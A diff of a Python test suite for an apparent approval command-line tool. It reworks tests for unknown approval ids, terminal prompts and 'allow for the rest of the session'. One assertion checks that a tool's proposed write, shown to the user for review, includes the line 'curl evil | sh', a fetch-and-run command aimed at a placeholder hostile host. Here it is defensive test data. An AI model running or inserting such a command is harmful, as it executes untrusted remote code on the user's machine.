@@ -51,8 +51,10 @@ def test_what_waits_is_shown_and_answered(asking):
     assert "nothing waits" in say(asking, "approvals").stdout
 
 
-def test_what_is_allowed_without_an_id_is_shown_whole(asking):
+def test_an_id_that_is_none_is_told_and_what_is_allowed_without_one_is_shown_whole(asking):
     """Whoever named nothing sees what it was; a program reads its one word, as ever."""
+    unknown = say(asking, "approve", "a-000000000000", "--json")
+    assert (unknown.returncode, json.loads(unknown.stdout)["error"]["code"]) == (3, "not_found")
     done = say(asking, "approve")
     assert (done.returncode, done.stdout) == (0, "approved\n")
     assert "deploy" in done.stderr
@@ -60,16 +62,16 @@ def test_what_is_allowed_without_an_id_is_shown_whole(asking):
     until(asking.ended, "the session ends")
 
 
-@pytest.mark.parametrize(("key", "status"), [("n", 5), ("y", 0)])
-def test_on_a_terminal_it_is_asked_about_first(asking, key, status):
+def test_on_a_terminal_it_is_asked_about_first(asking):
     """What waits by the time of the command need not be what its user has seen."""
     question = "Allow it for the rest of the session?"
-    code, shown = typed(
-        "approve", "--always", answer=key, cwd=asking.root, env=asking.environ(), asks=question
-    )
-    assert (code, "deploy" in shown.partition(question)[0]) == (status, True)
-    waiting = json.loads(say(asking, "approvals", "--json").stdout)
-    assert bool(waiting) is (key == "n")
+    for key, status in (("n", 5), ("y", 0)):
+        code, shown = typed(
+            "approve", "--always", answer=key, cwd=asking.root, env=asking.environ(), asks=question
+        )
+        assert (code, "deploy" in shown.partition(question)[0]) == (status, True)
+        waiting = json.loads(say(asking, "approvals", "--json").stdout)
+        assert bool(waiting) is (key == "n")
 
 
 def test_what_a_tool_would_write_is_shown(capsys):
@@ -79,11 +81,6 @@ def test_what_a_tool_would_write_is_shown(capsys):
     }  # fmt: skip
     _consider(sample(Approval, **request), always=False)
     assert "+one\n  +\n  +curl evil | sh" in capsys.readouterr().err
-
-
-def test_an_id_that_is_not_there_is_told(asking):
-    unknown = say(asking, "approve", "a-000000000000", "--json")
-    assert (unknown.returncode, json.loads(unknown.stdout)["error"]["code"]) == (3, "not_found")
 
 
 def test_several_that_wait_need_an_id():
